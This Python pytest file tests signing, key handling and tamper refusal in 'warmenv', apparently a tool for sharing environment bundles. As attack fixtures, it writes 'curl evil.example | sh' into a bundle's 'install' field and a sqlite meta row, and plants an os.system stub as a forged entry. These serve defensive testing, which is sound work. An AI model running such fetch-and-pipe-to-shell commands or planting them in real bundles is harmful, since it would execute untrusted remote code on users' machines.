"""Signed bundles: keys, signing on export, and the checks before an import writes anything.

Every way an attacker with the file (or between us and a server) can change
a signed bundle is tried in both formats, from a path and by URL from a real
HTTP server: a forged manifest, entries replaced with the digest made to
match, the bundle re-signed by a key nobody trusts, the signature stripped,
truncated, or made by one key and claimed for another. Each is refused with
a `SignatureError` naming what is wrong, and the environment stays empty.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import sqlite3
import stat
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from conftest import env_contents, sample_entries
from helpers import CLONE, counted, run_python
from signed import Document, read_manifest, rewrite_manifest
from test_bundle_format_1 import reader_0_1, run_0_1  # noqa: F401 (a fixture, used by name)
from test_download import BundleServer, staging_left
from test_store_read_through import GatedStorage
from warmenv import Environment, caches, open_environment
from warmenv.bundle import (
    CorruptBundleError,
    KeyFileError,
    NotABundleError,
    PublicKey,
    SignatureError,
    SigningKey,
    Trust,
    export_bundle,
    generate_key,
    import_bundle,
    open_bundle,
    preflight,
)
from warmenv.caches import CacheTree, directory
from warmenv.config import ConfigError, load_config
from warmenv.persistence import Origin
from warmenv.persistence.storage import EntryInfo

pytestmark = pytest.mark.anyio


_RACED = (
    "restore under require_signature while this machine captures between a value's read and "
    "its provenance's, both formats (asyncio, uvloop, trio)",
    "no unsigned byte written: each value judged by the provenance read with it",
)


_ATTACKED = (
    "signed bundles attacked, both formats, by path and by URL: forged manifest, forged "
    "entries, re-signed, stripped, truncated, wrong key, a field added (top level, nested), a "
    "key twice, a meta row added (asyncio, uvloop, trio)",
    "SignatureError (NotABundleError for the meta row) naming the cause before any write: the "
    "environment empty, no private copy left; preflight under the same trust says it would be "
    "refused; a flat bundle by URL refused from its header",
)


@pytest.fixture
def keys(tmp_path: Path) -> dict[str, Path]:
    """Two key pairs: `ci`, trusted by the tests, and `mallory`, trusted by nobody."""
    made = {}
    for name in ("ci", "mallory"):
        made[name] = tmp_path / "keys" / name
        made[name].parent.mkdir(exist_ok=True)
        generate_key(made[name])
    return made


def public(key: Path) -> PublicKey:
    return PublicKey.parse(key.with_name(key.name + ".pub").read_text())


async def export_signed(
    env: Environment, out: Path, bundle_format: str, key: Path | None, name: str = "H100 Linux"
) -> Path:
    await export_bundle(env, out, name=name, version="1", format=bundle_format, sign=key)
    return out


# --- keys --------------------------------------------------------------------------------


def test_keygen_writes_a_private_key_only_its_owner_reads_and_the_public_key_beside_it(
    tmp_path: Path,
) -> None:
    old = os.umask(0)  # the mode must not depend on the caller's umask
    try:
        key = generate_key(tmp_path / "ci")
    finally:
        os.umask(old)
    assert stat.S_IMODE((tmp_path / "ci").stat().st_mode) == 0o600
    assert (tmp_path / "ci").read_bytes().startswith(b"-----BEGIN PRIVATE KEY-----")
    assert (tmp_path / "ci.pub").read_text() == f"{key}\n"
    assert str(key).startswith("ed25519:") and len(str(key)) == len("ed25519:") + 43
    assert PublicKey.parse(str(key)) == key
    assert SigningKey.load(tmp_path / "ci").public_key == key


def test_keygen_never_replaces_a_file(tmp_path: Path) -> None:
    (tmp_path / "ci.pub").write_text("mine\n")
    with pytest.raises(FileExistsError, match=r"ci\.pub"):
        generate_key(tmp_path / "ci")
    assert not (tmp_path / "ci").exists()
    assert (tmp_path / "ci.pub").read_text() == "mine\n"


def test_a_private_key_other_users_can_read_is_refused_with_the_fix(
    keys: dict[str, Path],
) -> None:
    keys["ci"].chmod(0o644)
    with pytest.raises(KeyFileError, match=r"mode 0644.*chmod 600"):
        SigningKey.load(keys["ci"])


# Named `key`, not `key.pub`: no private key beside it to point to.
_PUBLIC_KEYS = (
    "holds public keys .*, not a private key; sign with the private key that `warmenv keygen` made"
)
_NOT_PRIVATE_KEYS = {
    "warmenv-public-key": ("ed25519:" + "A" * 43 + "\n", _PUBLIC_KEYS),
    "file-of-trusted-keys": ("# ci\n\ned25519:" + "A" * 43 + "\n", _PUBLIC_KEYS),
    "pem-public-key": (
        "-----BEGIN PUBLIC KEY-----\nMCowBQYDK2VwAyEA\n-----END PUBLIC KEY-----\n",
        _PUBLIC_KEYS,
    ),
    "openssh-public-key": ("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 me@host\n", _PUBLIC_KEYS),
    "not-a-key": ("hello\n", r"not a private key \(neither PEM nor OpenSSH\)"),
    "too-big": ("x" * 70_000, "not a private key file"),
}


@pytest.mark.parametrize("mode", [0o644, 0o600], ids=oct)
@pytest.mark.parametrize("case", _NOT_PRIVATE_KEYS)
def test_what_a_key_file_is_is_said_before_its_mode(tmp_path: Path, case: str, mode: int) -> None:
    # A chmod would not make the file sign: the mode is advice for a private key only.
    text, why = _NOT_PRIVATE_KEYS[case]
    path = tmp_path / "key"
    path.write_text(text)
    path.chmod(mode)
    with pytest.raises(KeyFileError, match=why) as raised:
        SigningKey.load(path)
    assert "chmod" not in str(raised.value)
    assert "without .pub" not in str(raised.value)
    _no_class_names(str(raised.value))


def _no_class_names(message: str) -> None:
    """A user reads words, not cryptography's classes ("(ValueError)", "RSAPrivateKey")."""
    assert not re.search(r"Error\b|Exception|Algorithm|PrivateKey|PublicKey", message), message


def test_an_encrypted_private_key_is_said_so_before_its_mode(tmp_path: Path) -> None:
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import ed25519

    pem = ed25519.Ed25519PrivateKey.generate().private_bytes(
        serialization.Encoding.PEM,
        serialization.PrivateFormat.PKCS8,
        serialization.BestAvailableEncryption(b"secret"),
    )
    path = tmp_path / "key"
    path.write_bytes(pem)
    path.chmod(0o644)
    with pytest.raises(KeyFileError, match="encrypted") as raised:
        SigningKey.load(path)
    assert "chmod" not in str(raised.value)


def test_an_encrypted_openssh_key_is_said_so(tmp_path: Path) -> None:
    # Made by ssh-keygen itself: cryptography writes encrypted OpenSSH keys only with bcrypt.
    assert shutil.which("ssh-keygen"), "install ssh-keygen: apt-get install openssh-client"
    path = tmp_path / "id_ed25519"
    subprocess.run(
        ["ssh-keygen", "-q", "-t", "ed25519", "-N", "secret", "-f", str(path)], check=True
    )
    with pytest.raises(KeyFileError, match="the private key is encrypted") as raised:
        SigningKey.load(path)
    _no_class_names(str(raised.value))


def test_an_unencrypted_openssh_ed25519_key_signs(tmp_path: Path) -> None:
    # `ssh-keygen -t ed25519 -N ''` writes this: the same Ed25519 key in OpenSSH's wrapping.
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import ed25519

    key = ed25519.Ed25519PrivateKey.generate()
    path = tmp_path / "id_ed25519"
    path.write_bytes(
        key.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.OpenSSH,
            serialization.NoEncryption(),
        )
    )
    path.chmod(0o600)
    assert SigningKey.load(path).public_key == SigningKey(key).public_key


def _private_key(kind: str) -> Any:
    """A private key of `kind`, the least costly of its algorithm to make."""
    from cryptography.hazmat.primitives.asymmetric import dh, dsa, ec, ed448, rsa, x448, x25519

    makers: dict[str, Callable[[], Any]] = {
        "rsa": lambda: rsa.generate_private_key(public_exponent=65537, key_size=1024),
        "ecdsa": lambda: ec.generate_private_key(ec.SECP256R1()),
        "ed448": ed448.Ed448PrivateKey.generate,
        "dsa": lambda: dsa.generate_private_key(key_size=1024),
        "x25519": x25519.X25519PrivateKey.generate,
        "x448": x448.X448PrivateKey.generate,
        # RFC 3526's 2048-bit group: generating parameters would take seconds.
        "dh": lambda: dh.DHParameterNumbers(_RFC3526_2048, 2).parameters().generate_private_key(),
    }
    return makers[kind]()


_RFC3526_2048 = int(
    "FFFFFFFFFFFFFFFFC90FDAA22168C234C4C6628B80DC1CD129024E088A67CC74020BBEA63B139B22514A0879"
    "8E3404DDEF9519B3CD3A431B302B0A6DF25F14374FE1356D6D51C245E485B576625E7EC6F44C42E9A637ED6B"
    "0BFF5CB6F406B7EDEE386BFB5A899FA5AE9F24117C4B1FE649286651ECE45B3DC2007CB8A163BF0598DA4836"
    "1C55D39A69163FA8FD24CF5F83655D23DCA3AD961C62F356208552BB9ED529077096966D670C354E4ABC9804"
    "F1746C08CA18217C32905E462E36CE3BE39E772C180E86039B2783A2EC07A28FB5C55DF06F4C52C9DE2BCBF6"
    "955817183995497CEA956AE515D2261898FA051015728E5A8AACAA68FFFFFFFFFFFFFFFF",
    16,
)


# Making and loading such a key warns (cryptography deprecates DSA and finite-field DH).
_DEPRECATED_BY_CRYPTOGRAPHY = pytest.mark.filterwarnings(
    "ignore:.*is deprecated:cryptography.utils.CryptographyDeprecationWarning"
)


@pytest.mark.parametrize(
    ("kind", "wrapping", "words"),
    [
        ("rsa", "PKCS8", "an RSA key"),
        ("rsa", "OpenSSH", "an RSA key"),
        ("ecdsa", "PKCS8", "an ECDSA key"),
        ("ed448", "PKCS8", "an Ed448 key"),
        pytest.param("dsa", "PKCS8", "a DSA key", marks=_DEPRECATED_BY_CRYPTOGRAPHY),
        ("x25519", "PKCS8", "an X25519 key (for key exchange, not signing)"),
        ("x448", "PKCS8", "an X448 key (for key exchange, not signing)"),
        pytest.param(
            "dh",
            "PKCS8",
            "a Diffie-Hellman key (for key exchange, not signing)",
            marks=_DEPRECATED_BY_CRYPTOGRAPHY,
        ),
    ],
)
def test_a_private_key_of_another_algorithm_is_named_in_words(
    tmp_path: Path, kind: str, wrapping: str, words: str
) -> None:
    from cryptography.hazmat.primitives import serialization

    path = tmp_path / "key"
    path.write_bytes(
        _private_key(kind).private_bytes(
            serialization.Encoding.PEM,
            getattr(serialization.PrivateFormat, wrapping),
            serialization.NoEncryption(),
        )
    )
    path.chmod(0o600)
    with pytest.raises(
        KeyFileError, match=re.escape(f"holds {words}, not an Ed25519 key")
    ) as raised:
        SigningKey.load(path)
    _no_class_names(str(raised.value))


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5", "must start with 'ed25519:'"),
        ("ed25519:" + "A" * 42, "43 characters"),
        ("ed25519:" + "A" * 43 + "=", "43 characters"),
        ("ed25519:" + "A" * 42 + "B", "43 characters"),  # stray bits past the 32 bytes
    ],
)
def test_a_public_key_that_is_not_one_is_refused_saying_why(text: str, why: str) -> None:
    with pytest.raises(ValueError, match=why):
        PublicKey.parse(text)


async def test_signing_with_a_public_key_or_a_missing_file_exports_nothing(
    warm_env: Environment, keys: dict[str, Path], out_dir: Path
) -> None:
    for wrong, why in (
        (
            keys["ci"].with_name("ci.pub"),
            re.escape(f"holds a public key; sign with the private key ({keys['ci']}, without"),
        ),
        (
            out_dir / "nope",
            "cannot open the private key",
        ),
    ):
        with pytest.raises(KeyFileError, match=why):
            await export_signed(warm_env, out_dir / "b", "sqlite", wrong)
    assert list(out_dir.iterdir()) == []


# --- signing and checking ------------------------------------------------------------------


async def test_a_signed_bundle_imports_under_its_key_with_the_signer_reported(
    warm_env: Environment,
    cold_env: Environment,
    keys: dict[str, Path],
    out_dir: Path,
    bundle_format: str,
) -> None:
    out = await export_signed(warm_env, out_dir / "b", bundle_format, keys["ci"])
    report = await import_bundle(out, cold_env, trust=[public(keys["ci"])])
    assert report.signer == public(keys["ci"])
    assert await env_contents(cold_env) == sample_entries()
    # The record of the checked signature is warmenv's own: the environment opens again.
    await cold_env.close()
    for read_only in (False, True):
        async with open_environment("cold", root=cold_env.path.parent, read_only=read_only) as env:
            assert await env.bundle_signers() == {
                read_manifest(out)["digest"]: str(public(keys["ci"]))
            }


async def test_the_signature_covers_the_digest_in_the_manifest_in_both_formats(
    warm_env: Environment, keys: dict[str, Path], out_dir: Path
) -> None:
    sqlite = read_manifest(await export_signed(warm_env, out_dir / "s", "sqlite", keys["ci"]))
    flat = read_manifest(await export_signed(warm_env, out_dir / "f", "flat", keys["ci"]))
    assert sqlite["digest"] == flat["digest"]
    assert sqlite["signature"]["key"] == flat["signature"]["key"] == str(public(keys["ci"]))
    async with open_bundle(out_dir / "f") as bundle:
        assert await bundle.verify(trust=[public(keys["ci"])]) == public(keys["ci"])


async def test_verify_checks_the_signature_and_says_who_signed(
    warm_env: Environment, keys: dict[str, Path], out_dir: Path, bundle_format: str
) -> None:
    out = await export_signed(warm_env, out_dir / "b", bundle_format, keys["ci"])
    async with open_bundle(out) as bundle:
        assert await bundle.verify() is None  # nothing asked: nothing checked
        assert await bundle.verify(trust=Trust((public(keys["ci"]),))) == public(keys["ci"])
        with pytest.raises(SignatureError, match="not a trusted key"):
            await bundle.verify(trust=[public(keys["mallory"])])


async def test_without_any_trust_a_signed_bundle_imports_as_an_unsigned_one_did(
    warm_env: Environment,
    cold_env: Environment,
    keys: dict[str, Path],
    out_dir: Path,
    bundle_format: str,
) -> None:
    out = await export_signed(warm_env, out_dir / "b", bundle_format, keys["mallory"])
    report = await import_bundle(out, cold_env)
    assert report.signer is None
    assert report.imported == sum(len(items) for items in sample_entries().values())


async def test_trusted_keys_without_a_requirement_pass_unsigned_bundles_but_no_stranger(
    warm_env: Environment,
    cold_env: Environment,
    keys: dict[str, Path],
    out_dir: Path,
    bundle_format: str,
) -> None:
    trust = Trust((public(keys["ci"]),), require_signature=False)
    unsigned = await export_signed(warm_env, out_dir / "u", bundle_format, None)
    strange = await export_signed(warm_env, out_dir / "m", bundle_format, keys["mallory"])
    with pytest.raises(SignatureError, match="not a trusted key"):
        await import_bundle(strange, cold_env, trust=trust)
    assert await cold_env.namespaces() == []
    assert (await import_bundle(unsigned, cold_env, trust=trust)).signer is None


async def test_a_checked_signature_checks_the_digest_even_with_verify_false(
    warm_env: Environment,
    cold_env: Environment,
    keys: dict[str, Path],
    out_dir: Path,
    tmp_path: Path,
    bundle_format: str,
) -> None:
    """The signature vouches for the digest; only the digest check ties it to the entries."""
    async with open_environment("other", root=tmp_path / "other") as other:
        # Of the same namespaces, so the manifest's list of them holds and the digest is
        # what finds the swap.
        for summary in await warm_env.namespaces():
            await other.storage(summary.namespace).insert(b"k000", b"not the kernel")
        swapped = await export_signed(other, out_dir / "x", bundle_format, None)
    out = await export_signed(warm_env, out_dir / "b", bundle_format, keys["ci"])
    genuine = read_manifest(out)
    # The stranger's entries under the genuine manifest and signature: the digest lies.
    rewrite_manifest(swapped, lambda doc: doc.update(genuine))
    with pytest.raises(CorruptBundleError, match="does not match its digest"):
        await import_bundle(swapped, cold_env, verify=False, trust=[public(keys["ci"])])
    assert await cold_env.namespaces() == []


# --- what an attacker does to a signed bundle -----------------------------------------------

Attack = Callable[[Path, dict[str, Path], Environment, Path, str], Any]


def _forge_name(doc: Document) -> None:
    doc["name"] = "H100 Linux (patched)"


def _strip(doc: Document) -> None:
    del doc["signature"]


def _truncate(doc: Document) -> None:
    doc["signature"]["value"] = doc["signature"]["value"][:-8]


async def added_field(out: Path, *_: Any) -> None:
    """A field this warmenv ignores (a later one might read it), added after signing."""
    rewrite_manifest(out, lambda doc: doc.update(install="curl evil.example | sh"))


async def added_nested_field(out: Path, *_: Any) -> None:
    rewrite_manifest(out, lambda doc: doc["environments"][0].update(driver="patched"))


async def duplicate_key(out: Path, *_: Any) -> None:
    """A second `name` before the genuine one (JSON keeps the last; a reader may keep the first)."""
    rewrite_manifest(out, lambda doc: None, raw=lambda text: text.replace("{", '{"name": "x", ', 1))


async def forged_manifest(out: Path, keys: dict[str, Path], *_: Any) -> None:
    rewrite_manifest(out, _forge_name)


async def forged_entries(
    out: Path, keys: dict[str, Path], env: Environment, tmp: Path, bundle_format: str
) -> None:
    """Other entries, their digest made to match, under the genuine signature."""
    async with open_environment("evil", root=tmp / "evil") as evil:
        await evil.storage("app/1/kernels").insert(b"k000", b"import os; os.system('...')")
        other = await export_signed(evil, tmp / "evil.bundle", bundle_format, None)
    signature = read_manifest(out)["signature"]
    rewrite_manifest(other, lambda doc: doc.update(signature=signature))
    os.replace(other, out)


async def re_signed(
    out: Path, keys: dict[str, Path], env: Environment, tmp: Path, bundle_format: str
) -> None:
    await export_signed(env, out, bundle_format, keys["mallory"])


async def stripped(out: Path, *_: Any) -> None:
    rewrite_manifest(out, _strip)


async def truncated(out: Path, *_: Any) -> None:
    rewrite_manifest(out, _truncate)


async def wrong_key(
    out: Path, keys: dict[str, Path], env: Environment, tmp: Path, bundle_format: str
) -> None:
    """Signed by mallory, the signature claimed for the trusted key."""
    await export_signed(env, out, bundle_format, keys["mallory"])
    trusted = str(public(keys["ci"]))
    rewrite_manifest(out, lambda doc: doc["signature"].update(key=trusted))


ATTACKS: dict[str, tuple[Attack, str]] = {
    "added-field": (added_field, "field 'install' that its signature does not cover"),
    "added-nested-field": (
        added_nested_field,
        r"field 'environments\[0\]\.driver' that its signature does not cover",
    ),
    "duplicate-key": (duplicate_key, "bytes written otherwise"),
    "forged-manifest": (forged_manifest, "does not hold"),
    "forged-entries": (forged_entries, "does not hold"),
    "re-signed": (re_signed, "not a trusted key"),
    "stripped": (stripped, "is not signed"),
    "truncated": (truncated, "damaged"),
    "wrong-key": (wrong_key, "does not hold"),
}


@pytest.fixture(params=sorted(ATTACKS))
def attack(request: pytest.FixtureRequest) -> tuple[Attack, str]:
    return ATTACKS[request.param]


@pytest.fixture
async def attacked(
    attack: tuple[Attack, str],
    warm_env: Environment,
    keys: dict[str, Path],
    out_dir: Path,
    tmp_path: Path,
    bundle_format: str,
) -> tuple[Path, str]:
    """A bundle signed by `ci`, then changed by the attack; and what its refusal says."""
    out = await export_signed(warm_env, out_dir / "b", bundle_format, keys["ci"])
    change, why = attack
    await change(out, keys, warm_env, tmp_path, bundle_format)
    return out, why


@counted(*_ATTACKED)
async def test_an_attacked_signature_is_refused_and_nothing_is_written(
    attacked: tuple[Path, str], cold_env: Environment, keys: dict[str, Path], root: Path
) -> None:
    out, why = attacked
    with pytest.raises(SignatureError, match=why):
        await import_bundle(out, cold_env, trust=[public(keys["ci"])])
    assert await cold_env.namespaces() == []
    assert staging_left(root) == []


@pytest.mark.parametrize("signed", [True, False], ids=["signed", "unsigned"])
@counted(*_ATTACKED)
async def test_a_meta_row_added_to_a_sqlite_bundle_is_refused_and_nothing_is_written(
    signed: bool,
    warm_env: Environment,
    cold_env: Environment,
    keys: dict[str, Path],
    out_dir: Path,
    root: Path,
) -> None:
    """Only the manifest is signed: a row beside it would travel unvouched for."""
    out = await export_signed(warm_env, out_dir / "b", "sqlite", keys["ci"] if signed else None)
    conn = sqlite3.connect(out)
    conn.execute("INSERT INTO meta VALUES ('install', 'curl evil.example | sh')")
    conn.commit()
    conn.close()
    with pytest.raises(NotABundleError, match="meta table has a row 'install'"):
        await import_bundle(out, cold_env, trust=[public(keys["ci"])] if signed else None)
    assert await cold_env.namespaces() == []
    assert staging_left(root) == []


@counted(*_ATTACKED)
async def test_an_attacked_signature_by_url_is_refused_and_nothing_is_written(
    attacked: tuple[Path, str],
    cold_env: Environment,
    keys: dict[str, Path],
    root: Path,
    http_server: BundleServer,
) -> None:
    out, why = attacked
    url = http_server.put("/b", out.read_bytes())
    with pytest.raises(SignatureError, match=why):
        await import_bundle(url, cold_env, trust=[public(keys["ci"])])
    assert await cold_env.namespaces() == []
    assert staging_left(root) == []


@counted(*_ATTACKED)
async def test_preflight_says_an_attacked_signature_would_be_refused(
    attacked: tuple[Path, str], keys: dict[str, Path], http_server: BundleServer
) -> None:
    out, why = attacked
    url = http_server.put("/b", out.read_bytes())
    for source in (out, url):
        report = await preflight(source, trust=[public(keys["ci"])])
        assert not report.ok
        assert report.signature_refused is not None
        assert re.search(why, report.signature_refused), report.signature_refused
        assert any(
            r.startswith("an import would refuse it for its signature") for r in report.reasons
        )
        assert report.signer is None


async def test_preflight_names_the_trusted_signer_and_the_configured_policy(
    warm_env: Environment,
    keys: dict[str, Path],
    out_dir: Path,
    bundle_format: str,
    http_server: BundleServer,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    signed = await export_signed(warm_env, out_dir / "s", bundle_format, keys["ci"])
    unsigned = await export_signed(warm_env, out_dir / "u", bundle_format, None)
    for source in (signed, http_server.put("/s", signed.read_bytes())):
        report = await preflight(source, trust=[public(keys["ci"])])
        assert report.ok and report.signer == public(keys["ci"]), report
        assert report.signature_refused is None
    monkeypatch.setenv("WARMENV_TRUSTED_KEYS", str(public(keys["ci"])))
    monkeypatch.setenv("WARMENV_REQUIRE_SIGNATURE", "1")
    for source in (unsigned, http_server.put("/u", unsigned.read_bytes())):
        report = await preflight(source)  # the configuration's trust, as an import's
        assert not report.ok
        assert report.signature_refused is not None
        assert "is not signed" in report.signature_refused
    monkeypatch.setenv("WARMENV_REQUIRE_SIGNATURE", "0")
    assert (await preflight(unsigned)).ok


@counted(*_ATTACKED)
async def test_a_flat_bundle_by_url_refused_by_its_header_is_never_downloaded(
    warm_env: Environment,
    cold_env: Environment,
    keys: dict[str, Path],
    out_dir: Path,
    root: Path,
    http_server: BundleServer,
) -> None:
    await warm_env.storage("app/1/big").insert(b"big", bytes(1 << 20))  # past the first range
    out = await export_signed(warm_env, out_dir / "b", "flat", keys["mallory"])
    url = http_server.put("/b", out.read_bytes())
    with pytest.raises(SignatureError, match="not a trusted key"):
        await import_bundle(url, cold_env, trust=[public(keys["ci"])])
    assert http_server.seen and all(seen.status == 206 for seen in http_server.seen)
    assert sum(seen.sent for seen in http_server.seen) < out.stat().st_size
    assert await cold_env.namespaces() == []
    assert staging_left(root) == []


async def test_a_genuine_signed_bundle_by_url_imports(
    warm_env: Environment,
    cold_env: Environment,
    keys: dict[str, Path],
    out_dir: Path,
    bundle_format: str,
    http_server: BundleServer,
) -> None:
    out = await export_signed(warm_env, out_dir / "b", bundle_format, keys["ci"])
    url = http_server.put("/b", out.read_bytes())
    report = await import_bundle(url, cold_env, trust=[public(keys["ci"])])
    assert report.signer == public(keys["ci"])
    assert await env_contents(cold_env) == sample_entries()


@pytest.fixture
def http_server() -> Iterator[BundleServer]:
    import threading

    httpd = BundleServer()
    thread = threading.Thread(
        target=httpd.serve_forever,
        kwargs={"poll_interval": 0.01},
        name="bundle-server",
        daemon=True,
    )
    thread.start()
    try:
        yield httpd
    finally:
        httpd.shutdown()
        httpd.server_close()
        thread.join(timeout=10)


# --- other readers ---------------------------------------------------------------------------


async def test_warmenv_0_1_reads_a_signed_bundle_as_an_unsigned_one(
    warm_env: Environment,
    keys: dict[str, Path],
    out_dir: Path,
    tmp_path: Path,
    bundle_format: str,
    reader_0_1: Path,  # noqa: F811 (the fixture, imported by name)
    anyio_backend: Any,
) -> None:
    if anyio_backend != "asyncio":
        return  # the reader runs in a child; once is enough
    out = out_dir / "b"
    await export_bundle(
        warm_env,
        out,
        name="n",
        version="1",
        format=bundle_format,
        format_version=1,
        sign=keys["ci"],
    )
    completed = await run_0_1(reader_0_1, out, tmp_path / "old-root")
    assert completed.returncode == 0, completed.stderr.decode()
    result = json.loads(completed.stdout)
    assert result["verified"] is True
    assert result["imported"] == sum(len(items) for items in sample_entries().values())


_WITHOUT_CRYPTOGRAPHY = """
import sys
sys.modules["cryptography"] = None  # as if it were not installed
import anyio
from pathlib import Path
from warmenv import open_environment
from warmenv.bundle import SigningUnavailableError, generate_key, import_bundle

async def main(bundle, key, root):
    async with open_environment("e", root=root) as env:
        try:
            await import_bundle(bundle, env, trust=[key])
        except SigningUnavailableError as exc:
            print("trust:", exc)
        print("nothing written:", await env.namespaces() == [])
        print("without trust:", (await import_bundle(bundle, env)).imported)
    try:
        generate_key(root / "k")
    except SigningUnavailableError as exc:
        print("keygen:", exc)

anyio.run(main, sys.argv[1], sys.argv[2], Path(sys.argv[3]))
"""


async def test_without_cryptography_signing_says_how_to_install_it_and_the_rest_works(
    warm_env: Environment,
    keys: dict[str, Path],
    out_dir: Path,
    tmp_path: Path,
    anyio_backend: Any,
) -> None:
    if anyio_backend != "asyncio":
        return  # the child runs on its own loop; once is enough
    out = await export_signed(warm_env, out_dir / "b", "flat", keys["ci"])
    key = str(public(keys["ci"]))
    completed = run_python(_WITHOUT_CRYPTOGRAPHY, str(out), key, str(tmp_path / "child"))
    assert completed.returncode == 0, completed.stderr
    hint = f"install it with: pip install -e '{CLONE}[sign]'"  # this editable install's clone
    lines = completed.stdout.splitlines()
    assert lines[0].startswith("trust: ") and lines[0].endswith(hint)
    assert lines[1] == "nothing written: True"
    assert lines[2] == f"without trust: {sum(len(items) for items in sample_entries().values())}"
    assert lines[3].startswith("keygen: ") and lines[3].endswith(hint)
    assert not (tmp_path / "child" / "k").exists()


def test_importing_warmenv_imports_no_cryptography() -> None:
    code = (
        "import sys, warmenv, warmenv.bundle, warmenv.blocking, warmenv.cli;"
        "print(sorted(m for m in sys.modules if m.split('.')[0] == 'cryptography'))"
    )
    completed = run_python(code)
    assert completed.returncode == 0, completed.stderr
    assert completed.stdout.strip() == "[]"


# --- trust from the configuration ------------------------------------------------------------


def test_trusted_keys_are_read_from_the_file_as_keys_or_key_files(
    tmp_path: Path, keys: dict[str, Path]
) -> None:
    ci, mallory = public(keys["ci"]), public(keys["mallory"])
    (tmp_path / "warmenv.toml").write_text(
        f'trusted_keys = ["{ci}", "keys/mallory.pub"]\nrequire_signature = true\n'
    )
    config = load_config(tmp_path)
    assert config.trusted_keys == (ci, mallory)
    assert config.require_signature is True
    assert Trust.from_config(config) == Trust((ci, mallory), require_signature=True)


def test_a_file_of_trusted_keys_over_the_cap_is_refused_naming_it_unread(
    tmp_path: Path,
) -> None:
    huge = tmp_path / "keys.pub"
    huge.write_text("ed25519:" + "A" * 43 + "\n")
    os.truncate(huge, 1 << 30)  # sparse: no disk is filled
    (tmp_path / "warmenv.toml").write_text('trusted_keys = ["keys.pub"]\n')
    with pytest.raises(
        ConfigError,
        match=r"keys\.pub holds 1,073,741,824 bytes, over the "
        r"65,536 bytes warmenv reads of it: not a file of public keys",
    ):
        load_config(tmp_path)


def test_a_fifo_named_as_a_file_of_trusted_keys_is_refused_not_waited_on(
    tmp_path: Path,
) -> None:
    os.mkfifo(tmp_path / "keys.pub")
    (tmp_path / "warmenv.toml").write_text('trusted_keys = ["keys.pub"]\n')
    with pytest.raises(ConfigError, match=r"keys\.pub is a FIFO, not a file of public keys"):
        load_config(tmp_path)


def test_the_trust_variables_win_over_the_file(
    tmp_path: Path, keys: dict[str, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    ci = public(keys["ci"])
    (tmp_path / "warmenv.toml").write_text(f'trusted_keys = ["{ci}"]\n')
    monkeypatch.setenv("WARMENV_TRUSTED_KEYS", f" {keys['mallory']}.pub , ")
    monkeypatch.setenv("WARMENV_REQUIRE_SIGNATURE", "1")
    config = load_config(tmp_path)
    assert config.trusted_keys == (public(keys["mallory"]),)
    assert config.require_signature is True
    monkeypatch.setenv("WARMENV_TRUSTED_KEYS", "")  # set but empty: no key
    monkeypatch.setenv("WARMENV_REQUIRE_SIGNATURE", "false")
    assert load_config(tmp_path).trusted_keys == ()
    assert load_config(tmp_path).require_signature is False
    # Set but empty (CI's `WARMENV_REQUIRE_SIGNATURE=${UNSET}`) is not set: the file stands.
    (tmp_path / "warmenv.toml").write_text(f'trusted_keys = ["{ci}"]\nrequire_signature = true\n')
    for empty in ("", "  "):
        monkeypatch.setenv("WARMENV_REQUIRE_SIGNATURE", empty)
        assert load_config(tmp_path).require_signature is True


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ('trusted_keys = "ed25519:x"', "must be a list of public keys"),
        ('trusted_keys = ["ed25519:short"]', "43 characters"),
        ('trusted_keys = ["missing.pub"]', r"missing\.pub: cannot read the key file"),
        ('trusted_keys = ["keys/ci"]', "private key"),
        ("require_signature = 1", "must be true or false"),
    ],
)
def test_a_bad_trust_setting_names_the_file_and_the_key(
    tmp_path: Path, keys: dict[str, Path], text: str, why: str
) -> None:
    (tmp_path / "warmenv.toml").write_text(text + "\n")
    with pytest.raises(ConfigError, match=why) as raised:
        load_config(tmp_path)
    assert str(tmp_path / "warmenv.toml") in str(raised.value)
    key = "require_signature" if "require" in text else "trusted_keys"
    assert f"'{key}'" in str(raised.value)


def test_a_bad_require_signature_variable_is_named(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("WARMENV_REQUIRE_SIGNATURE", "maybe")
    with pytest.raises(ConfigError, match="WARMENV_REQUIRE_SIGNATURE must be 1 or 0"):
        load_config(tmp_path)


async def test_require_signature_in_the_configuration_refuses_an_unsigned_import(
    warm_env: Environment,
    cold_env: Environment,
    keys: dict[str, Path],
    out_dir: Path,
    tmp_path: Path,
    bundle_format: str,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    project = tmp_path / "project"
    project.mkdir()
    (project / "warmenv.toml").write_text(
        f'trusted_keys = ["{public(keys["ci"])}"]\nrequire_signature = true\n'
    )
    monkeypatch.chdir(project)
    unsigned = await export_signed(warm_env, out_dir / "u", bundle_format, None)
    signed = await export_signed(warm_env, out_dir / "s", bundle_format, keys["ci"])
    with pytest.raises(SignatureError, match="is not signed"):
        await import_bundle(unsigned, cold_env)
    assert await cold_env.namespaces() == []
    assert (await import_bundle(signed, cold_env)).signer == public(keys["ci"])


async def test_require_signature_without_a_trusted_key_refuses_saying_how_to_trust_one(
    warm_env: Environment,
    cold_env: Environment,
    keys: dict[str, Path],
    out_dir: Path,
    bundle_format: str,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("WARMENV_REQUIRE_SIGNATURE", "1")
    signed = await export_signed(warm_env, out_dir / "s", bundle_format, keys["ci"])
    with pytest.raises(SignatureError, match="no key is trusted; set trusted_keys"):
        await import_bundle(signed, cold_env)
    assert await cold_env.namespaces() == []


# --- compiler caches: signed code only, under require_signature --------------------------


CACHE_FILES = {"a/kernel.bin": b"\x7fELF", "index.json": b"{}"}


async def _captured_bundle(
    tmp_path: Path, bundle_format: str, key: Path | None
) -> tuple[CacheTree, Path]:
    """A compiler cache captured on a first machine, exported (signed by `key`)."""
    tree = directory.tree("demo", ("python",))
